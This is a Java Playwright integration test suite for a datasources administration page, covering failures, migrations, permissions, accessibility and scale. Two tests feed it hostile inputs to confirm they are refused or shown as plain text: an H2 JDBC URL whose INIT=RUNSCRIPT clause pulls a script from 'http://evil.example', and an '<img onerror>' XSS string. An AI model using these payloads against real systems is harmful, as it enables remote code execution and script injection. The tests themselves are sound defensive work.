package io.multidb.browser;

import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;

import com.google.gson.JsonObject;
import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Request;
import com.microsoft.playwright.Response;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.ColorScheme;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * What an operator does.
 */
class DatasourcesPageIntegrationTests extends PageOfSample {

	@Test
	void showsEverySourceAndOpensNone() throws Exception {
		Pattern notOpen = Pattern.compile("cold");
		open("");
		assertThat(row("main")).containsText("sqlite");
		assertThat(row("main")).containsText("up to date");
		assertThat(row("main").locator("td.origin")).hasText(Pattern.compile("application\\.yaml:\\d+"));
		assertThat(row("ny_appeals")).containsText("New York Court of Appeals");
		assertThat(row("courts").locator(".badge")).hasText("open");
		assertThat(row("user").locator(".badge")).hasText(notOpen);
		row("user").getByRole(AriaRole.LINK).click();
		assertThat(this.page.locator("h1")).hasText("user");
		assertThat(this.page.locator("main")).containsText("jdbc:sqlite:data/user.db");
		AtomicInteger answers = new AtomicInteger();
		this.page.onResponse((response) -> answers.addAndGet(response.url().contains("/api/sources/user") ? 1 : 0));
		this.page.waitForCondition(() -> answers.get() >= 3);
		assertThat(this.page.locator(".headline .badge")).hasText("cold");
	}

	@Test
	void seesASourceGoUnavailableAndComeBack() throws Exception {
		open("");
		assertThat(row("archive")).isVisible();
		sample.send("POST", "/datasources/none", "", "operator");
		sample.send("POST", "/actuator/datasources/archive/drain", "{}", "operator");
		Path file = sample.data().resolve("archive.db");
		Path aside = sample.data().resolve("archive.aside");
		Files.move(file, aside);
		Files.createDirectory(file);
		HttpResponse<String> refused = sample.send("POST", "/chats/1001/messages", "{'text':'Hello'}", "");
		assertThat(refused.statusCode()).isEqualTo(503);
		assertThat(row("archive").locator(".badge").first()).hasText("unavailable");
		Locator attention = this.page.locator(".attention");
		assertThat(attention).containsText("1 source unavailable");
		assertThat(attention).containsText("archive");
		assertThat(attention).containsText("next try");
		// First in the list, as by default what is broken is.
		assertThat(this.page.locator("table.sources tbody tr").first()).containsText("archive");
		attention.getByRole(AriaRole.BUTTON).click();
		assertThat(task("Try archive again")).containsText("failed");
		browsers.allow("status of 503");
		Files.delete(file);
		Files.move(aside, file);
		// By itself, at the latest when the prober comes.
		assertThat(attention).containsText("Nothing needs attention");
		row("archive").getByRole(AriaRole.LINK).click();
		assertThat(this.page.locator(".events")).containsText("unavailable");
		assertThat(this.page.locator("main")).containsText("Last error");
	}

	@Test
	void triesAgainAtOnceWhenAsked() throws Exception {
		Path file = sample.data().resolve("user.db");
		Path aside = sample.data().resolve("user.aside");
		sample.send("POST", "/actuator/datasources/user/drain", "{}", "operator");
		Files.move(file, aside);
		Files.createDirectory(file);
		assertThat(sample.send("GET", "/apps/user/records", "", "").statusCode()).isEqualTo(503);
		// After so many failures it is tried by itself in half a minute at the earliest.
		for (int i = 0; i < 5; i++) {
			assertThat(sample.send("POST", "/actuator/datasources/user/retry", "", "operator").statusCode())
				.isEqualTo(503);
		}
		open("#/sources/user");
		assertThat(this.page.locator(".card.bad")).containsText("Unavailable");
		Files.delete(file);
		Files.move(aside, file);
		button("Retry").click();
		assertThat(task("Try user again")).containsText("done");
		assertThat(this.page.locator(".headline .badge")).not().hasText("unavailable");
	}

	@Test
	void addsMapsReplacesAndRemovesASource() throws Exception {
		open("");
		button("Add a source…").click();
		Locator dialog = this.page.getByRole(AriaRole.DIALOG);
		dialog.getByLabel("Name", new Locator.GetByLabelOptions().setExact(true)).fill("porto");
		dialog.getByLabel("URL").fill("jdbc:sqlite:data/porto.db");
		dialog.getByLabel("Name for people").fill("Câmara do Porto");
		dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Add").setExact(true)).click();
		assertThat(task("Add porto")).containsText("Added to the catalog");
		assertThat(this.page.locator("h1")).hasText("porto");
		assertThat(this.page.locator(".headline")).containsText("Câmara do Porto");
		assertThat(this.page.locator(".headline .badge")).hasText("cold");

		button("Map a tenant…").click();
		dialog.getByLabel("Tenant").fill("chat-4711");
		dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Map").setExact(true)).click();
		assertThat(this.page.locator(".tenants")).containsText("chat-4711");

		button("Replace…").click();
		dialog.getByLabel("New URL, empty to keep it").fill("jdbc:sqlite:data/porto2.db");
		dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Replace").setExact(true)).click();
		assertThat(this.page.locator("main")).containsText("jdbc:sqlite:data/porto2.db");

		this.page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("chat-4711")).click();
		assertThat(this.page.locator(".card")).hasCount(1);
		assertThat(this.page.locator(".card")).containsText("mapped to it while the application runs");
		button("Unmap…").click();
		dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Unmap").setExact(true)).click();
		assertThat(this.page.locator(".card")).containsText("by a route");

		this.page.navigate(sample.address() + "/datasources/#/sources/porto");
		button("Remove…").click();
		assertThat(dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Cancel"))).isFocused();
		this.page.keyboard().press("Escape");
		assertThat(dialog).isHidden();
		assertThat(this.page.locator("h1")).hasText("porto");
		button("Remove…").click();
		dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Remove").setExact(true)).click();
		assertThat(task("Remove porto")).containsText("Its database is left alone");
		assertThat(row("main")).isVisible();
		assertThat(row("porto")).hasCount(0);
		browsers.allow("status of 404");
	}

	@Test
	void migratesAndDrainsASource() throws Exception {
		sample.send("POST", "/chats/9/messages", "{'text':'Hello'}", "");
		open("#/sources/main");
		button("Migrate…").click();
		Locator dialog = this.page.getByRole(AriaRole.DIALOG);
		dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Migrate").setExact(true)).click();
		assertThat(task("Migrate main")).containsText("Its database is up to date.");
		assertThat(task("Migrate main")).containsText("none pending");
		assertThat(this.page.locator(".headline .badge")).hasText("open");
		assertThat(this.page.locator("canvas")).isVisible();
		button("Drain…").click();
		dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Drain").setExact(true)).click();
		assertThat(task("Drain main")).containsText("done");
		assertThat(this.page.locator(".headline .badge")).hasText("cold");
	}

	@Test
	void seesAMigrationFailAndMendsIt(@TempDir Path own) throws Exception {
		Path changeLog = own.resolve("stock.yaml");
		BrokenSource.breakUp(changeLog);
		try (RunningSample broken = RunningSample.start(own, BrokenSource.options(changeLog))) {
			this.page = browsers.open(broken, Browsers.as("operator"));
			this.page.navigate(broken.address() + "/datasources");
			Locator attention = this.page.locator(".attention");
			assertThat(attention).containsText("1 source unavailable");
			assertThat(attention.locator(".badge.failed")).hasText("migration failed");
			assertThat(attention).containsText("no such table: shelf");
			assertThat(row("stock")).containsText("failed");
			row("stock").getByRole(AriaRole.LINK).click();
			assertThat(this.page.locator(".card.bad")).containsText("no such table: shelf");
			assertThat(this.page.locator("dl .migrations")).hasText("failed");
			assertThat(this.page.locator(".events")).containsText("no such table: shelf");

			migrate("stock", () -> assertThat(task("Migrate stock")).containsText("is running"));
			assertThat(task("Migrate stock")).containsText("failed");
			assertThat(task("Migrate stock")).containsText("no such table: shelf");
			assertThat(this.page.locator(".headline .badge")).hasText("unavailable");

			BrokenSource.mend(changeLog);
			clickUnlessGone("Retry");
			assertThat(this.page.locator(".headline .badge")).hasText(Pattern.compile("open|cold"));
			migrate("stock", () -> {
			});
			assertThat(task("Migrate stock"))
				.containsText("Its database is up to date. 2 change sets run, none pending.");
			assertThat(this.page.locator("dl .migrations")).hasText("up to date");
			assertThat(this.page.locator(".card.bad")).hasCount(0);
			this.page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("‹ All sources")).click();
			assertThat(attention).containsText("Nothing needs attention");
			browsers.allow("status of 503");
			this.page.context().close();
		}
	}

	/** With the request held back for so long, however fast the migration is. */
	private void migrate(String source, Runnable meanwhile) {
		List<Route> held = new ArrayList<>();
		Pattern path = Pattern.compile("/" + source + "/migrate$");
		this.page.route(path, held::add);
		button("Migrate…").click();
		this.page.getByRole(AriaRole.DIALOG)
			.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Migrate").setExact(true))
			.click();
		assertThat(task("Migrate " + source).getByRole(AriaRole.PROGRESSBAR)).isVisible();
		assertThat(button("Migrate…")).isDisabled();
		meanwhile.run();
		this.page.unroute(path);
		held.forEach(Route::resume);
		assertThat(task("Migrate " + source).getByRole(AriaRole.PROGRESSBAR)).hasCount(0);
	}

	@Test
	void saysWhichServerIsOutOfConnections() {
		prepare(Browsers.as("operator"));
		// The sample's files need no server.
		answer("sources\\?", () -> {
			JsonObject server = object(Map.of("server", "db1:5432"));
			Map.of("limit", 20, "inUse", 20, "idle", 0, "waiting", 3, "stolen", 7).forEach(server::addProperty);
			JsonObject overview = overview(source("main"));
			JsonObject calm = object(Map.of("server", "db2:5432"));
			Map.of("inUse", 1, "idle", 2, "waiting", 0, "stolen", 0).forEach(calm::addProperty);
			overview.getAsJsonObject("list").add("servers", array(calm, server));
			overview.getAsJsonObject("list").getAsJsonObject("totals").addProperty("servers", 300);
			attention(overview).add("servers", some(array(server)));
			return overview;
		});
		this.page.navigate(sample.address() + "/datasources");
		assertThat(this.page.locator(".attention")).containsText("1 server out of connections");
		this.page.locator(".attention").getByRole(AriaRole.LINK).first().click();
		assertThat(this.page.locator("h1")).hasText("Servers");
		Locator servers = this.page.locator("table.servers tbody tr");
		assertThat(servers.first()).containsText("db1:5432");
		assertThat(servers.first().locator(".badge")).hasText("exhausted");
		assertThat(servers.last()).containsText("db2:5432");
		assertThat(servers.last().locator(".badge")).hasCount(0);
		assertThat(this.page.getByRole(AriaRole.IMG,
				new Page.GetByRoleOptions().setName("20 in use, 0 idle of 20, 3 waiting")))
			.isVisible();
		assertThat(this.page.locator("main")).containsText("The first 2 of 300.");
		// What is on it?
		Request request = this.page.waitForRequest(Pattern.compile("/api/sources\\?"),
				() -> this.page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("db1:5432")).click());
		assertThat(request.url()).contains("server=db1%3A5432");
		button("Show all servers, not only db1:5432").click();
		assertThat(this.page).not().hasURL(Pattern.compile("server="));
	}

	@Test
	void saysWhyAChangeWasRefused() {
		open("");
		button("Add a source…").click();
		Locator dialog = this.page.getByRole(AriaRole.DIALOG);
		dialog.getByLabel("Name", new Locator.GetByLabelOptions().setExact(true)).fill("evil");
		dialog.getByLabel("URL").fill("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example'");
		dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Add").setExact(true)).click();
		assertThat(dialog.locator(".problem")).isVisible();
		assertThat(dialog.getByLabel("Name", new Locator.GetByLabelOptions().setExact(true))).hasValue("evil");
		browsers.allow("status of 400");
	}

	@Test
	void showsHostileTextAsText() throws Exception {
		String hostile = "<img src=x onerror=alert(1)>";
		HttpResponse<String> added = sample.send("POST", "/actuator/datasources",
				"{'name':'hostile','displayName':'" + hostile + "','url':'jdbc:sqlite:data/" + hostile + "/x.db'}",
				"operator");
		assertThat(added.statusCode()).as(added.body()).isEqualTo(200);
		open("?search=hostile");
		open("#/?search=" + "onerror");
		assertThat(row("hostile")).containsText(hostile);
		row("hostile").getByRole(AriaRole.LINK).click();
		assertThat(this.page.locator(".headline")).containsText(hostile);
		button("Map a tenant…").click();
		Locator dialog = this.page.getByRole(AriaRole.DIALOG);
		dialog.getByLabel("Tenant").fill(hostile);
		List<Route> held = new ArrayList<>();
		this.page.route(Pattern.compile("/map$"), held::add);
		dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Map").setExact(true)).click();
		assertThat(task("Map")).containsText(hostile);
		assertThat(this.page.locator("img, main script")).hasCount(0);
		this.page.waitForCondition(() -> !held.isEmpty());
		held.forEach(Route::resume);
		assertThat(dialog.locator(".problem")).containsText(hostile);
		assertThat(this.page.locator("img, main script")).hasCount(0);
		this.page.navigate(sample.address() + "/datasources/#/tenants/" + "%3Cimg%20src=x%20onerror=alert(1)%3E");
		assertThat(this.page.locator(".problem")).isVisible();
		assertThat(this.page.locator("img")).hasCount(0);
		browsers.allow("status of 400");
		sample.send("DELETE", "/actuator/datasources/hostile", "", "operator");
	}

	@Test
	void isRefusedWithoutRights() {
		Page nobody = browsers.open(sample, new Browser.NewContextOptions());
		for (String path : new String[] { "/datasources", "/datasources/", "/datasources/api/sources" }) {
			assertThat(nobody.request().get(sample.address() + path).status()).as(path).isEqualTo(401);
		}
		Page ada = browsers.open(sample, Browsers.as("ada"));
		Response response = ada.navigate(sample.address() + "/datasources/");
		assertThat(response.status()).isEqualTo(403);
		assertThat(ada.content()).doesNotContain("jdbc:");
		ada.waitForTimeout(500);
		browsers.allow("status of 403");
	}

	@Test
	void saysSinceWhenItIsStaleAndGoesOn() {
		prepare(Browsers.as("operator"));
		this.page.clock().install();
		this.page.navigate(sample.address() + "/datasources/");
		assertThat(row("main")).isVisible();
		assertThat(this.page.locator(".fresh")).hasText("live");
		this.page.route(Pattern.compile("/api/"), (route) -> route.abort());
		assertThat(this.page.locator(".silence")).containsText("stale for");
		assertThat(this.page.locator(".fresh")).hasText("stale");
		assertThat(row("main")).isVisible();
		// Time stands still, so that nothing is asked by itself.
		this.page.clock().pauseAt(((Number) this.page.evaluate("Date.now()")).longValue() + 60_000);
		this.page.waitForRequest(Pattern.compile("/api/sources"), () -> button("Try now").press("Enter"));
		this.page.unrouteAll();
		this.page.clock().resume();
		assertThat(this.page.locator(".fresh")).hasText("live");
		assertThat(this.page.locator(".silence")).isHidden();
		browsers.allow("ERR_FAILED");
	}

	@Test
	void asksNothingWhileNobodyLooks() {
		open("");
		assertThat(row("main")).isVisible();
		// What has been asked before may be told of afterwards.
		this.page.waitForResponse(Pattern.compile("/api/sources\\?"), () -> {
		});
		this.page.evaluate("Object.defineProperty(document, 'hidden', { value: true, configurable: true });"
				+ " document.dispatchEvent(new Event('visibilitychange'))");
		AtomicInteger requests = new AtomicInteger();
		this.page.onRequest((request) -> requests.incrementAndGet());
		this.page.waitForTimeout(5_000);
		assertThat(requests).hasValue(0);
		this.page.evaluate("Object.defineProperty(document, 'hidden', { value: false, configurable: true });"
				+ " document.dispatchEvent(new Event('visibilitychange'))");
		this.page.waitForCondition(() -> requests.get() > 0);
	}

	@Test
	void isUsedWithTheKeyboardAlone() {
		open("");
		assertThat(row("main")).isVisible();
		this.page.keyboard().press("Tab");
		assertThat(this.page.locator(".skip")).isFocused();
		this.page.keyboard().press("Enter");
		assertThat(this.page.locator("#content")).isFocused();
		this.page.keyboard().press("/");
		assertThat(this.page.locator("#search")).isFocused();
		this.page.keyboard().type("mai");
		assertThat(row("archive")).hasCount(0);
		assertThat(row("main")).isVisible();
		assertThat(this.page.locator("#search")).hasValue("mai");
		tabTo(row("main").getByRole(AriaRole.LINK));
		this.page.keyboard().press("Enter");
		assertThat(this.page.locator("h1")).hasText("main");
		tabTo(button("Remove…"));
		this.page.keyboard().press("Enter");
		assertThat(this.page.getByRole(AriaRole.DIALOG)).isVisible();
		this.page.keyboard().press("Escape");
		assertThat(this.page.getByRole(AriaRole.DIALOG)).isHidden();
		assertThat(button("Remove…")).isFocused();
		tabBackTo(this.page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("‹ All sources")));
		this.page.keyboard().press("Enter");
		assertThat(this.page.locator("#search")).hasValue("mai");
	}

	@Test
	void addsAndRemovesASourceWithTheKeyboardAlone() {
		open("");
		assertThat(row("main")).isVisible();
		Locator dialog = this.page.getByRole(AriaRole.DIALOG);
		tabTo(button("Add a source…"));
		assertFocusIsSeen();
		this.page.keyboard().press("Enter");
		assertThat(dialog.getByLabel("Name", new Locator.GetByLabelOptions().setExact(true))).isFocused();
		this.page.keyboard().type("tavira");
		this.page.keyboard().press("Tab");
		this.page.keyboard().type("jdbc:sqlite:data/tavira.db");
		tabTo(dialog.getByLabel("Read-only"));
		assertFocusIsSeen();
		this.page.keyboard().press("Space");
		tabTo(dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Add").setExact(true)));
		assertFocusIsSeen();
		this.page.keyboard().press("Enter");
		assertThat(task("Add tavira")).containsText("done");
		assertThat(this.page.locator("h1")).hasText("tavira");
		assertThat(this.page.locator("main")).containsText("read-only");

		tabTo(button("Remove…"));
		assertFocusIsSeen();
		this.page.keyboard().press("Enter");
		assertThat(dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Cancel"))).isFocused();
		// What stands behind the dialog is not reached.
		tabTo(dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Remove").setExact(true)));
		this.page.keyboard().press("Enter");
		assertThat(task("Remove tavira")).containsText("Its database is left alone");
		assertThat(row("main")).isVisible();
		assertThat(row("tavira")).hasCount(0);
		tabTo(this.page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Dismiss: Remove tavira")));
		this.page.keyboard().press("Enter");
		assertThat(this.page.locator(".tasks")).not().containsText("Remove tavira");
		browsers.allow("status of 404");
	}

	/** Who has no mouse has to see where he is. */
	private void assertFocusIsSeen() {
		assertThat(this.page.evaluate("getComputedStyle(document.activeElement).outlineStyle")).isNotEqualTo("none");
	}

	private void tabTo(Locator target) {
		press("Tab", target);
	}

	private void tabBackTo(Locator target) {
		press("Shift+Tab", target);
	}

	private void press(String key, Locator target) {
		assertThat(target).isVisible();
		for (int i = 0; i < 60; i++) {
			if (Boolean.TRUE.equals(target.evaluate("(element) => element === document.activeElement"))) {
				return;
			}
			this.page.keyboard().press(key);
		}
		throw new AssertionError(target + " cannot be reached by " + key);
	}

	@Test
	void everythingThatIsUsedHasAName() {
		for (String hash : new String[] { "", "#/servers", "#/tenants", "#/sources/main" }) {
			open(hash);
			assertThat(this.page.locator("h1")).hasCount(1);
			Object nameless = this.page.evaluate("""
					() => [...document.querySelectorAll('button, a, input, select, canvas, svg, dialog, nav, progress')]
						.filter((element) => !(element.getAttribute('aria-label') ?? element.labels?.[0]?.textContent
							?? (element.getAttribute('aria-labelledby') && 'labelled') ?? element.textContent).trim())
						.map((element) => element.outerHTML)""");
			assertThat(nameless).asInstanceOf(org.assertj.core.api.InstanceOfAssertFactories.LIST).isEmpty();
		}
	}

	@Test
	void keepsFiltersInTheAddress() {
		open("#/?search=court&sort=-name");
		assertThat(this.page.locator("#search")).hasValue("court");
		assertThat(row("courts")).isVisible();
		assertThat(row("ny_appeals")).isVisible();
		assertThat(row("main")).hasCount(0);
		assertThat(this.page.locator("th.name[aria-sort=descending]")).isVisible();
		this.page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName(Pattern.compile("^Cold"))).click();
		assertThat(row("courts")).hasCount(0);
		assertThat(this.page.url()).contains("state=cold", "search=court");
	}

	@Test
	void hasADarkSide() {
		open("", Browsers.as("operator").setColorScheme(ColorScheme.DARK));
		assertThat(row("main")).isVisible();
		assertThat(background()).isEqualTo("rgb(20, 24, 28)");
		open("");
		assertThat(row("main")).isVisible();
		assertThat(background()).isEqualTo("rgb(246, 247, 248)");
	}

	private Object background() {
		return this.page.evaluate("getComputedStyle(document.body).backgroundColor");
	}

	@Test
	void fitsOnAPhone() {
		for (String hash : new String[] { "", "#/servers", "#/tenants", "#/sources/main" }) {
			open(hash, Browsers.as("operator").setViewportSize(360, 740));
			assertThat(this.page.locator("h1")).hasCount(1);
			this.page.waitForTimeout(500);
			assertThat(this.page.evaluate("document.documentElement.scrollWidth")).as(hash).isEqualTo(360);
		}
	}

	@Test
	void findsOneAmongTenThousand(@TempDir Path many) throws Exception {
		try (RunningSample large = RunningSample.start(many, "--app.tenancy.catalog.poll-interval=1s",
				"--management.endpoint.datasources.access=read-only")) {
			large.addToCatalog(10_000);
			this.page = browsers.open(large, Browsers.as("operator"));
			this.page.navigate(large.address() + "/datasources/");
			assertThat(this.page.locator(".found")).containsText("10,008 sources");
			this.page.context().close();

			// All of them are known now: how long does it take whoever comes?
			this.page = browsers.open(large, Browsers.as("operator"));
			this.page.navigate(large.address() + "/datasources/");
			assertThat(this.page.locator("table.sources tbody tr")).hasCount(100);
			Map<?, ?> times = (Map<?, ?>) this.page.evaluate(
					"""
							() => ({ shown: performance.getEntriesByName('first-contentful-paint')[0]?.startTime,
								usable: performance.getEntriesByType('mark').find((mark) => mark.name === 'usable')?.startTime,
								answer: performance.getEntriesByType('resource').find((each) => each.name.includes('api/sources?')).duration })""");
			System.out.println("10,000 sources in the browser, ms: " + times);

			this.page.locator("#search").fill("tenant-07");
			assertThat(this.page.locator(".found")).containsText("1,000 sources of 10,008");
			this.page.locator("#search").fill("tenant-07123");
			assertThat(row("tenant-07123")).isVisible();
			assertThat(this.page.locator(".found")).containsText("1 source of 10,008");
			row("tenant-07123").getByRole(AriaRole.LINK).click();
			assertThat(this.page.locator(".headline")).containsText("Tenant number 7123");
			this.page.goBack();
			assertThat(this.page.locator("#search")).hasValue("tenant-07123");
			this.page.locator("#search").fill("");
			this.page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Last page")).click();
			assertThat(this.page.locator(".pager")).containsText("10,001–10,008 of 10,008");

			// And who may only look is not offered more.
			assertThat(button("Add a source…")).hasCount(0);
			this.page.navigate(large.address() + "/datasources/#/sources/main");
			assertThat(this.page.locator("h1")).hasText("main");
			assertThat(this.page.locator(".actions")).hasCount(0);
			Object status = this.page.evaluate(
					"""
							() => fetch('api/sources/main/remove', { method: 'POST', body: '{}',
								headers: { 'Content-Type': 'application/json', 'X-Datasources-Page': '1' } }).then((response) => response.status)""");
			assertThat(status).isEqualTo(403);
			assertThat(large.send("GET", "/actuator/datasources/main", "", "operator").statusCode()).isEqualTo(200);
			browsers.allow("status of 403");
			this.page.context().close();
		}
	}

}
